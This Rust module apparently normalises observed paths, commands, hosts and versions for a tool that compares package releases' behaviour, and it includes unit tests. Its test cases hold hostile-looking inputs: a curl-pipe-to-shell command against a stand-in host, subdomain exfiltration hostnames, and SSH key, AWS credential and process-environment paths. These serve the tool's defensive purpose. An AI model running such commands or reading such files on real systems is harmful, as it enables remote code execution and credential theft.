//! Normalisation: the same behaviour gets the same value in every release.
//!
//! Two honest consecutive releases differ in their version string, in the
//! names of temporary directories, in process ids, in hashes and in random
//! build names. None of that is behaviour, so every value that enters a
//! profile goes through a [`Normalizer`] first. The rules, in the order
//! they run:
//!
//! | what                                   | becomes          |
//! |----------------------------------------|------------------|
//! | `/root`, `/home/<user>` at a path start | `~`              |
//! | a UUID                                 | `<uuid>`         |
//! | the release's own version string       | `<v>`            |
//! | any semver/PEP 440-looking version     | `<v>`            |
//! | `/tmp/<dir>/`, `/var/tmp/<dir>/`       | `/tmp/<tmp>/`    |
//! | a random-looking file directly in /tmp | `/tmp/<tmp>.ext` |
//! | `/proc/<digits>/`, `…/task/<digits>`   | `/proc/<pid>/`, `…/task/<tid>` |
//! | a hex run of 8 or more                 | `<hex>`          |
//! | a random-looking token (letters and digits mixed, 8 or more) | `<rand>` |
//! | a run of 4 or more digits (not a port) | `<n>`            |
//!
//! Files written or deleted go further ([`Normalizer::written`]): any
//! path inside `/tmp`, `/var/tmp` or `/dev/shm` is `/tmp/<tmp>`, and any
//! path below `~/.cache/<dir>/` is `~/.cache/<dir>/<tmp>`, so renamed temp
//! and cache files are the same behaviour.
//!
//! A package's `name-1.2.3` directory becomes `name-<v>` through the
//! version rules. IPv4 addresses are not versions and stay as they are.
//! Line numbers never reach a normaliser: the profile keys static
//! findings by rule id.
//!
//! Values longer than [`MAX_VALUE_CHARS`] are cut, with a short hash of
//! the whole value appended so that two long values that share a prefix
//! stay distinct (see [`bounded`]).

use std::sync::LazyLock;

use regex::{Captures, Regex};
use sha2::{Digest, Sha256};

/// The longest value (and raw example) a profile keeps, in characters.
pub const MAX_VALUE_CHARS: usize = 300;

/// Placeholders. They contain no digits and no hex letters in a run, so a
/// later rule never rewrites an earlier rule's placeholder.
pub const VERSION: &str = "<v>";
pub const HEX: &str = "<hex>";
pub const RANDOM: &str = "<rand>";
pub const TEMP: &str = "<tmp>";
pub const PID: &str = "<pid>";
pub const TID: &str = "<tid>";
pub const NUMBER: &str = "<n>";
pub const UUID: &str = "<uuid>";

static HOME_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"/root|/home/[A-Za-z0-9._-]+").expect("valid regex"));
static UUID_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}")
        .expect("valid regex")
});
/// A dotted number, then an optional pre/post/dev release tag and
/// optional build metadata. Longer tags come first: the regex crate takes
/// the first alternative that matches.
static VERSION_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(\d+(?:\.\d+)+)((?:[-.]?(?:alpha|beta|post|pre|dev|rc|a|b)\.?\d*)?(?:\+[0-9A-Za-z]+(?:\.[0-9A-Za-z]+)*)?)",
    )
    .expect("valid regex")
});
static TEMP_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"/(?:var/)?tmp/([^/\s'":;,()]+)(/)?"#).expect("valid regex"));
static PROC_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"/proc/\d+(/task/\d+)?").expect("valid regex"));
static HEX_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"[0-9A-Fa-f]{8,}").expect("valid regex"));
static TOKEN_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"[A-Za-z0-9]{8,}").expect("valid regex"));
static NUMBER_RE: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\d{4,}").expect("valid regex"));

/// Normalises the values of one release. It knows the release's own
/// version, which may have a shape the generic version rule misses
/// (`0.0.0-insiders.e1c2ef1`, `2024a`).
#[derive(Debug, Clone, Default)]
pub struct Normalizer {
    version: String,
}

impl Normalizer {
    /// A normaliser for the release with this version (empty when
    /// unknown).
    pub fn new(version: &str) -> Self {
        Self {
            version: version.trim().to_owned(),
        }
    }

    /// Any text: a command argument, a hook command, a path.
    pub fn text(&self, s: &str) -> String {
        let s = home(s);
        let s = uuids(&s);
        let s = tmpnames(&s);
        let s = self.own_version(&s);
        let s = versions(&s);
        let s = temp_dirs(&s);
        let s = proc_pids(&s);
        let s = hex_runs(&s);
        let s = random_tokens(&s);
        numbers(&s)
    }

    /// A file path: cleaned lexically (`//`, `/./`, `..`, trailing `/`),
    /// then normalised as text.
    pub fn path(&self, p: &str) -> String {
        self.text(&clean_path(p))
    }

    /// A file written, created or deleted: [`Normalizer::path`], and then
    /// every path inside a scratch directory (`/tmp`, `/var/tmp`,
    /// `/dev/shm`) is `/tmp/<tmp>`, and every path below a program's own
    /// directory in the XDG cache is `~/.cache/<dir>/<tmp>`. A release
    /// that renames its temp files or its cache entries (a new prefix, a
    /// new extension, another library's naming) does the same thing; what
    /// it then does with such a file (runs it, sends it) shows elsewhere.
    pub fn written(&self, p: &str) -> String {
        let p = self.path(p);
        for dir in ["/tmp/", "/var/tmp/", "/dev/shm/"] {
            if p.len() > dir.len() && p.starts_with(dir) {
                return format!("/tmp/{TEMP}");
            }
        }
        if let Some((dir, rest)) = p.strip_prefix("~/.cache/").and_then(|r| r.split_once('/')) {
            if !dir.is_empty() && !rest.is_empty() {
                return format!("~/.cache/{dir}/{TEMP}");
            }
        }
        p
    }

    /// A command line: every argument normalised, runs of white space in
    /// it (the lines of an inline script) made one space, joined with
    /// spaces and quoted where a shell would need quotes.
    pub fn argv(&self, argv: &[String]) -> String {
        argv.iter()
            .map(|a| shell_quote(&self.text(&a.split_whitespace().collect::<Vec<_>>().join(" "))))
            .collect::<Vec<_>>()
            .join(" ")
    }

    /// A DNS name or TLS server name: lowercase, no trailing dot, random
    /// labels (hex, random tokens, UUIDs, long numbers) replaced, as used
    /// for data smuggled out in subdomains.
    pub fn host(&self, h: &str) -> String {
        let h = h.trim().trim_end_matches('.').to_ascii_lowercase();
        let h = uuids(&h);
        let h = hex_runs(&h);
        let h = random_tokens(&h);
        numbers(&h)
    }

    /// The path of a URL: the query and fragment dropped (they carry
    /// cache busters and session ids), the rest normalised as a path.
    pub fn url_path(&self, p: &str) -> String {
        let p = p.split(['?', '#']).next().unwrap_or_default();
        if p.is_empty() {
            return "/".to_owned();
        }
        self.text(p)
    }

    fn own_version(&self, s: &str) -> String {
        let v = self.version.as_str();
        // A bare number ("1", "20240101") is left to the generic rules:
        // replacing it literally would eat unrelated digits.
        if v.len() < 3 || !(v.contains('.') || v.chars().any(|c| c.is_ascii_alphabetic())) {
            return s.to_owned();
        }
        let mut out = String::with_capacity(s.len());
        let mut last = 0;
        for (start, _) in s.match_indices(v) {
            let end = start + v.len();
            if start < last || !version_start_ok(s, start) || !version_end_ok(s, end) {
                continue;
            }
            out.push_str(&s[last..start]);
            out.push_str(VERSION);
            last = end;
        }
        out.push_str(&s[last..]);
        out
    }
}

/// Cuts a value to [`MAX_VALUE_CHARS`]: a longer value keeps its first
/// characters and gets `…` and the first 8 hex digits of its sha256, so
/// that distinct long values stay distinct and equal ones stay equal.
pub fn bounded(value: String) -> String {
    if value.chars().count() <= MAX_VALUE_CHARS {
        return value;
    }
    let digest = hex::encode(Sha256::digest(value.as_bytes()));
    let mut out: String = value.chars().take(MAX_VALUE_CHARS - 10).collect();
    out.push('…');
    out.push_str(&digest[..8]);
    out
}

/// Cuts a raw example to [`MAX_VALUE_CHARS`] characters.
pub fn truncate(raw: &str) -> String {
    raw.chars().take(MAX_VALUE_CHARS).collect()
}

/// A package name as the registry compares it: PyPI names are
/// case-insensitive with `-`, `_` and `.` equivalent (PEP 503), crates.io
/// names are case-insensitive with `-` and `_` equivalent; npm, RubyGems
/// and Packagist names are kept as spelled.
pub fn package_name(ecosystem: &str, name: &str) -> String {
    let name = name.trim();
    match ecosystem {
        "pypi" => {
            let mut out = String::with_capacity(name.len());
            let mut sep = false;
            for c in name.chars() {
                if matches!(c, '-' | '_' | '.') {
                    sep = true;
                    continue;
                }
                if sep && !out.is_empty() {
                    out.push('-');
                }
                sep = false;
                out.push(c.to_ascii_lowercase());
            }
            out
        }
        "crates.io" | "crates-io" => name.to_ascii_lowercase().replace('_', "-"),
        _ => name.to_owned(),
    }
}

/// Resolves `.`, `..` and repeated or trailing slashes without touching
/// the file system. Relative paths stay relative.
pub fn clean_path(p: &str) -> String {
    let absolute = p.starts_with('/');
    let mut parts: Vec<&str> = Vec::new();
    for part in p.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                if parts.last().is_some_and(|l| *l != "..") {
                    parts.pop();
                } else if !absolute {
                    parts.push("..");
                }
            }
            other => parts.push(other),
        }
    }
    let joined = parts.join("/");
    if absolute {
        format!("/{joined}")
    } else if joined.is_empty() {
        ".".to_owned()
    } else {
        joined
    }
}

/// Whether a char belongs to a word for the boundary checks.
fn is_word(c: char) -> bool {
    c.is_ascii_alphanumeric()
}

fn char_before(s: &str, i: usize) -> Option<char> {
    s[..i].chars().next_back()
}

fn char_at(s: &str, i: usize) -> Option<char> {
    s[i..].chars().next()
}

/// Whether a path-like match may start at `i`: at the start, or after a
/// separator that is not part of a longer path or word (so `/x/tmp/a` is
/// not a temp dir, nor `/rootfs` a home).
fn path_start_ok(s: &str, i: usize) -> bool {
    char_before(s, i).is_none_or(|c| !(is_word(c) || matches!(c, '.' | '_' | '~' | '/' | '-')))
}

/// Rewrites every match of `re` for which `f` returns a replacement.
fn replace_some(
    s: &str,
    re: &Regex,
    mut f: impl FnMut(&str, &Captures<'_>) -> Option<String>,
) -> String {
    let mut out = String::with_capacity(s.len());
    let mut last = 0;
    for caps in re.captures_iter(s) {
        let m = caps.get(0).expect("group 0 always matches");
        if let Some(rep) = f(s, &caps) {
            out.push_str(&s[last..m.start()]);
            out.push_str(&rep);
            last = m.end();
        }
    }
    out.push_str(&s[last..]);
    out
}

fn home(s: &str) -> String {
    replace_some(s, &HOME_RE, |s, caps| {
        let m = caps.get(0)?;
        let next_ok =
            char_at(s, m.end()).is_none_or(|c| !(is_word(c) || matches!(c, '.' | '_' | '-')));
        (path_start_ok(s, m.start()) && next_ok).then(|| "~".to_owned())
    })
}

fn uuids(s: &str) -> String {
    replace_some(s, &UUID_RE, |s, caps| {
        let m = caps.get(0)?;
        let prev_ok = char_before(s, m.start()).is_none_or(|c| !c.is_ascii_hexdigit());
        let next_ok = char_at(s, m.end()).is_none_or(|c| !c.is_ascii_hexdigit());
        (prev_ok && next_ok).then(|| UUID.to_owned())
    })
}

/// A version may follow a separator, or a lone `v` (`v1.2.3`,
/// `node-v18.0.0`), but not a letter: `python3.11` is an interpreter.
fn version_start_ok(s: &str, i: usize) -> bool {
    match char_before(s, i) {
        None => true,
        Some(c) if c.is_ascii_digit() => false,
        Some('v' | 'V') => char_before(s, i - 1).is_none_or(|c| !is_word(c)),
        Some(c) => !is_word(c),
    }
}

/// A version ends before a separator, not inside a word or a longer
/// dotted number.
fn version_end_ok(s: &str, i: usize) -> bool {
    match char_at(s, i) {
        None => true,
        Some('.') => char_at(s, i + 1).is_none_or(|c| !c.is_ascii_digit()),
        Some(c) => !is_word(c),
    }
}

fn versions(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut last = 0;
    for caps in VERSION_RE.captures_iter(s) {
        let (Some(m), Some(core)) = (caps.get(0), caps.get(1)) else {
            continue;
        };
        if !version_start_ok(s, m.start()) {
            continue;
        }
        let tagged = m.end() > core.end();
        let parts: Vec<&str> = core.as_str().split('.').collect();
        if !tagged && parts.len() == 4 && parts.iter().all(|p| p.parse::<u8>().is_ok()) {
            // An IPv4 address, not a version.
            continue;
        }
        let end = if version_end_ok(s, m.end()) {
            m.end()
        } else if tagged && version_end_ok(s, core.end()) {
            // "1.0.0-build": the tag rule took "-b" of a word.
            core.end()
        } else {
            continue;
        };
        out.push_str(&s[last..m.start()]);
        out.push_str(VERSION);
        last = end;
    }
    out.push_str(&s[last..]);
    out
}

/// Whether the last component of a path directly in /tmp is a generated
/// name (`tmpab12cd`, `xmx71y7c`) rather than a chosen one (`p.sh`).
fn random_temp_name(stem: &str) -> bool {
    // mkdtemp-style: a chosen prefix, a separator, then the generated
    // part (Python's `build-k3xa9q0p`, Node's `build-AbXyQz`).
    let generated_suffix = stem.rsplit(['-', '_']).next().is_some_and(|tail| {
        tail.len() < stem.len()
            && (5..=16).contains(&tail.len())
            && tail.chars().all(|c| c.is_ascii_alphanumeric())
    });
    // Mixed case after the first letter (`bldQwErTy`).
    let mixed_case = stem.chars().skip(1).any(|c| c.is_ascii_uppercase())
        && stem.chars().any(|c| c.is_ascii_lowercase());
    // Python's tempfile names: eight characters of [a-z0-9_].
    // (All of them: a chosen eight-letter name is rarer than a random
    // one without a digit or an underscore, one in sixteen.)
    let python_tempfile = stem.len() == 8
        && stem
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_');
    // …and after a prefix (`mkdtemp(prefix="build-")`: `build-wvi_ogt_`).
    let python_suffix = stem.len() > 9 && stem.is_char_boundary(stem.len() - 8) && {
        let (head, tail) = stem.split_at(stem.len() - 8);
        head.ends_with(['-', '.', '_'])
            && tail
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_')
    };
    stem.starts_with("tmp")
        || python_tempfile
        || python_suffix
        || stem.starts_with('<')
        || stem.chars().any(|c| c.is_ascii_digit())
        || generated_suffix
        || mixed_case
        || looks_random(stem)
}

fn temp_dirs(s: &str) -> String {
    replace_some(s, &TEMP_RE, |s, caps| {
        let m = caps.get(0)?;
        if !path_start_ok(s, m.start()) {
            return None;
        }
        let name = caps.get(1)?.as_str();
        if caps.get(2).is_some() {
            return Some(format!("/tmp/{TEMP}/"));
        }
        // The last component: a file or a directory named last. Keep its
        // extension (the basename's class) when the stem is generated.
        let (stem, ext) = match name.strip_prefix('.') {
            Some(_) => (name, ""),
            None => name.split_at(name.find('.').unwrap_or(name.len())),
        };
        random_temp_name(stem).then(|| format!("/tmp/{TEMP}{ext}"))
    })
}

/// Ruby's `Dir::Tmpname` names (`siteconf20261122-2-p6ebks.rb`: a date,
/// a pid, a random tail), wherever they are.
static TMPNAME_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\d{8}-\d+-[a-z0-9]{4,12}").expect("valid regex"));

fn tmpnames(s: &str) -> String {
    TMPNAME_RE.replace_all(s, TEMP).into_owned()
}

fn proc_pids(s: &str) -> String {
    replace_some(s, &PROC_RE, |s, caps| {
        let m = caps.get(0)?;
        let next_ok = char_at(s, m.end()).is_none_or(|c| !c.is_ascii_digit());
        if !path_start_ok(s, m.start()) || !next_ok {
            return None;
        }
        Some(match caps.get(1) {
            Some(_) => format!("/proc/{PID}/task/{TID}"),
            None => format!("/proc/{PID}"),
        })
    })
}

/// A whole alphanumeric token (not part of a longer word).
fn whole_token(s: &str, start: usize, end: usize) -> bool {
    char_before(s, start).is_none_or(|c| !is_word(c)) && char_at(s, end).is_none_or(|c| !is_word(c))
}

fn hex_runs(s: &str) -> String {
    replace_some(s, &HEX_RE, |s, caps| {
        let m = caps.get(0)?;
        let t = m.as_str();
        // Digits only is a number; letters only is a word ("deadbeef" is
        // rare, "acceded" is English).
        let mixed =
            t.chars().any(|c| c.is_ascii_digit()) && t.chars().any(|c| c.is_ascii_alphabetic());
        (mixed && whole_token(s, m.start(), m.end())).then(|| HEX.to_owned())
    })
}

/// Whether a token of letters and digits looks generated: letters and
/// digits alternate often (`hs5a9tfb`), or it is long and mixes cases
/// and digits like base64 (`AjWk2Lbsi48Yn2bkg`). Words with a number in
/// them (`python311`, `base64encode`, `sha256sum`) do not.
pub fn looks_random(t: &str) -> bool {
    let digits = t.chars().filter(|c| c.is_ascii_digit()).count();
    let letters = t.chars().filter(|c| c.is_ascii_alphabetic()).count();
    if t.len() < 8 || digits == 0 || letters == 0 {
        return false;
    }
    let transitions = t
        .as_bytes()
        .windows(2)
        .filter(|w| w[0].is_ascii_digit() != w[1].is_ascii_digit())
        .count();
    let upper = t.chars().filter(|c| c.is_ascii_uppercase()).count();
    let lower = t.chars().filter(|c| c.is_ascii_lowercase()).count();
    transitions >= 3
        || (t.len() >= 12 && upper >= 2 && lower >= 2)
        || (t.len() >= 16 && transitions >= 2)
}

fn random_tokens(s: &str) -> String {
    replace_some(s, &TOKEN_RE, |s, caps| {
        let m = caps.get(0)?;
        (whole_token(s, m.start(), m.end()) && looks_random(m.as_str())).then(|| RANDOM.to_owned())
    })
}

fn numbers(s: &str) -> String {
    replace_some(s, &NUMBER_RE, |s, caps| {
        let m = caps.get(0)?;
        // A port after a colon is behaviour, not noise.
        (char_before(s, m.start()) != Some(':')).then(|| NUMBER.to_owned())
    })
}

/// Quotes an argument the way a shell would need it, so that a command
/// line reads back unambiguously.
pub fn shell_quote(arg: &str) -> String {
    let safe = |c: char| c.is_ascii_alphanumeric() || "_./:=@%+,<>~-".contains(c);
    if !arg.is_empty() && arg.chars().all(safe) {
        return arg.to_owned();
    }
    format!("'{}'", arg.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn n() -> Normalizer {
        Normalizer::new("1.17.0")
    }

    #[test]
    fn text_table() {
        let cases = [
            // home
            ("/root/.ssh/id_rsa", "~/.ssh/id_rsa"),
            ("/home/alice/.aws/credentials", "~/.aws/credentials"),
            ("/root", "~"),
            ("HOME=/root", "HOME=~"),
            ("/rootfs/x", "/rootfs/x"),
            ("/srv/root/x", "/srv/root/x"),
            ("cp /root/a /root/b", "cp ~/a ~/b"),
            // versions
            ("six-1.17.0/six.py", "six-<v>/six.py"),
            ("left-pad-1.3.1.tgz", "left-pad-<v>.tgz"),
            ("pkg-2.0.0rc1.tar.gz", "pkg-<v>.tar.gz"),
            ("pkg-2.0.0.dev3", "pkg-<v>"),
            ("pkg-1.0.0-beta.2/x", "pkg-<v>/x"),
            ("pkg-1.0.0-build/x", "pkg-<v>-build/x"),
            ("torch-2.1.0+cu118", "torch-<v>"),
            ("node-v18.19.0-linux-x64", "node-v<v>-linux-x64"),
            (
                "six-1.17.0-py2.py3-none-any.whl",
                "six-<v>-py2.py3-none-any.whl",
            ),
            ("v1.2", "v<v>"),
            ("/usr/lib/python3.11/site.py", "/usr/lib/python3.11/site.py"),
            ("connect 10.231.0.1:3141", "connect 10.231.0.1:3141"),
            ("1.2.3.4.5", "<v>"),
            ("1.2.3abc", "1.2.3abc"),
            // temp dirs
            ("/tmp/tmpab12cd/setup.py", "/tmp/<tmp>/setup.py"),
            (
                "/tmp/pip-req-build-hs5a9tfb/setup.py",
                "/tmp/<tmp>/setup.py",
            ),
            ("/var/tmp/build/x.o", "/tmp/<tmp>/x.o"),
            ("/tmp/xmx71y7c", "/tmp/<tmp>"),
            ("/tmp/tmpq8f2k1.sh", "/tmp/<tmp>.sh"),
            ("/tmp/p.sh", "/tmp/p.sh"),
            ("/tmp/build-epyiodgc", "/tmp/<tmp>"),
            ("/tmp/build-AbXyQz", "/tmp/<tmp>"),
            ("/tmp/bldQwErTy", "/tmp/<tmp>"),
            ("/tmp/o_nywsi_", "/tmp/<tmp>"),
            ("/tmp/build-wvi_ogt_", "/tmp/<tmp>"),
            ("/tmp/ééééééé", "/tmp/ééééééé"),
            (
                "-r ./siteconf20261122-2-p6ebks.rb extconf.rb",
                "-r ./siteconf<tmp>.rb extconf.rb",
            ),
            ("/tmp/payload", "/tmp/payload"),
            ("/tmp", "/tmp"),
            ("/opt/tmp/x/y", "/opt/tmp/x/y"),
            (
                "--egg-base /tmp/pip-pip-egg-info-9jwf1otn",
                "--egg-base /tmp/<tmp>",
            ),
            // pids
            ("/proc/4242/environ", "/proc/<pid>/environ"),
            ("/proc/7/task/12/stat", "/proc/<pid>/task/<tid>/stat"),
            ("/proc/self/environ", "/proc/self/environ"),
            // hex, uuids, random tokens, numbers
            ("/x/145fbb6519b3070342f9026a4924c643/y", "/x/<hex>/y"),
            ("deadbeef12", "<hex>"),
            ("decade", "decade"),
            ("abcdefab", "abcdefab"),
            (
                "id 123e4567-e89b-12d3-a456-426614174000.json",
                "id <uuid>.json",
            ),
            ("build-hs5a9tfb", "build-<rand>"),
            (
                "key=JG/gBqmEz0/AjWk2Lbsi48Yn2bkgXck2yc6MO5o7",
                "key=JG/gBqmEz0/<rand>",
            ),
            (
                "python311 base64encode sha256sum",
                "python311 base64encode sha256sum",
            ),
            ("/var/cache/12345/x", "/var/cache/<n>/x"),
            ("file1234.txt", "file<n>.txt"),
            ("x.example:8080", "x.example:8080"),
            ("sleep 123", "sleep 123"),
        ];
        for (input, want) in cases {
            assert_eq!(n().text(input), want, "normalising {input:?}");
        }
    }

    #[test]
    fn the_release_s_own_odd_version_is_replaced() {
        let n = Normalizer::new("0.0.0-insiders.e1c2ef1");
        assert_eq!(n.text("/app/x-0.0.0-insiders.e1c2ef1/y"), "/app/x-<v>/y");
        let n = Normalizer::new("2024a");
        assert_eq!(n.text("pkg-2024a.tar.gz"), "pkg-<v>.tar.gz");
        // Not inside a longer word: only the generic number rule applies.
        assert_eq!(n.text("pkg-2024ab"), "pkg-<n>ab");
        // A bare number is not replaced literally.
        let n = Normalizer::new("7");
        assert_eq!(n.text("a7 7 x"), "a7 7 x");
    }

    #[test]
    fn consecutive_versions_normalise_alike() {
        let pairs = [
            (
                "1.3.0",
                "1.3.1",
                "/app/node_modules/left-pad-1.3.0/index.js",
            ),
            ("1.17.0", "1.18.0b1", "six-1.17.0/six.egg-info/PKG-INFO"),
            ("5.3.0", "5.3.1", "npm install /artifact/express-5.3.0.tgz"),
        ];
        for (a, b, text) in pairs {
            let ta = Normalizer::new(a).text(text);
            let tb = Normalizer::new(b).text(&text.replace(a, b));
            assert_eq!(ta, tb, "{text}");
            assert!(!ta.contains(a), "{ta}");
        }
    }

    #[test]
    fn paths_are_cleaned_first() {
        assert_eq!(n().path("/root//.ssh/./id_rsa"), "~/.ssh/id_rsa");
        assert_eq!(n().path("/tmp/x/../p.sh"), "/tmp/p.sh");
        assert_eq!(n().path("/a/b/"), "/a/b");
        assert_eq!(n().path("../../x"), "../../x");
    }

    #[test]
    fn scratch_and_cache_files_are_one_value_whatever_their_names() {
        let n = Normalizer::new("2.0.1");
        for p in [
            "/tmp/tmpk3xa9q0p",
            "/tmp/mypkg-build-a8f3k2.log",
            "/tmp/mypkg_cache_x9q2m1p4.tmp",
            "/tmp/build-AbXyQz/out/result.json",
            "/var/tmp/.lock-2.0.1",
            "/dev/shm/sem.mp-7yq1",
            "/tmp/paddock-hook-ran",
        ] {
            assert_eq!(n.written(p), "/tmp/<tmp>", "{p}");
        }
        assert_eq!(
            n.written("/root/.cache/mypkg/v1-index.json"),
            "~/.cache/mypkg/<tmp>"
        );
        assert_eq!(
            n.written("/root/.cache/mypkg/models/x.bin"),
            "~/.cache/mypkg/<tmp>"
        );
        // Not scratch: kept as paths.
        assert_eq!(n.written("/tmp"), "/tmp");
        assert_eq!(n.written("/root/.cache/x"), "~/.cache/x");
        assert_eq!(n.written("/root/.bashrc"), "~/.bashrc");
        assert_eq!(n.written("/etc/cron.d/x"), "/etc/cron.d/x");
        assert_eq!(
            n.written("/root/.config/systemd/user/a.service"),
            "~/.config/systemd/user/a.service"
        );
        assert_eq!(clean_path("/.."), "/");
        assert_eq!(clean_path(""), ".");
    }

    #[test]
    fn hosts_lose_case_trailing_dots_and_random_labels() {
        assert_eq!(n().host("X.Example."), "x.example");
        assert_eq!(
            n().host("a1b2c3d4e5f6.exfil.example"),
            "<hex>.exfil.example"
        );
        assert_eq!(n().host("q8z7k2m4p1x9.evil.example"), "<rand>.evil.example");
        assert_eq!(n().host("registry.example.org"), "registry.example.org");
    }

    #[test]
    fn url_paths_lose_queries() {
        assert_eq!(n().url_path("/p.sh?t=1699999999"), "/p.sh");
        assert_eq!(
            n().url_path("/dl/six-1.17.0.tar.gz#frag"),
            "/dl/six-<v>.tar.gz"
        );
        assert_eq!(n().url_path(""), "/");
        assert_eq!(n().url_path("?x"), "/");
    }

    #[test]
    fn argv_is_quoted_where_a_shell_needs_it() {
        let argv = ["sh", "-c", "curl -s http://x.example/p.sh | sh"].map(String::from);
        assert_eq!(
            n().argv(&argv),
            "sh -c 'curl -s http://x.example/p.sh | sh'"
        );
        let argv = ["echo", "it's", ""].map(String::from);
        assert_eq!(n().argv(&argv), r"echo 'it'\''s' ''");
        let argv = ["python3", "-c", "\nimport os\n\nos.system('id')  "].map(String::from);
        assert_eq!(
            n().argv(&argv),
            r"python3 -c 'import os os.system('\''id'\'')'"
        );
    }

    #[test]
    fn long_values_are_bounded_but_stay_distinct() {
        let a = format!("{}a", "x".repeat(400));
        let b = format!("{}b", "x".repeat(400));
        let (ba, bb) = (bounded(a.clone()), bounded(b));
        assert_ne!(ba, bb);
        assert_eq!(ba, bounded(a));
        assert_eq!(ba.chars().count(), MAX_VALUE_CHARS - 1);
        assert_eq!(bounded("short".into()), "short");
        assert_eq!(truncate(&"é".repeat(400)).chars().count(), MAX_VALUE_CHARS);
    }

    #[test]
    fn package_names_compare_as_their_registry_does() {
        assert_eq!(
            package_name("pypi", "Zope.Interface__x"),
            "zope-interface-x"
        );
        assert_eq!(package_name("crates.io", "Serde_JSON"), "serde-json");
        assert_eq!(package_name("npm", "@Scope/Name"), "@Scope/Name");
    }

    #[test]
    fn random_tokens_are_told_from_words() {
        for t in [
            "hs5a9tfb",
            "xmx71y7c",
            "AjWk2Lbsi48Yn2bkgXck2yc6MO5o7",
            "ab12cd34",
        ] {
            assert!(looks_random(t), "{t}");
        }
        for t in [
            "python311",
            "sha256sum",
            "utf8",
            "windows",
            "x86",
            "Abcdefgh",
        ] {
            assert!(!looks_random(t), "{t}");
        }
    }
}
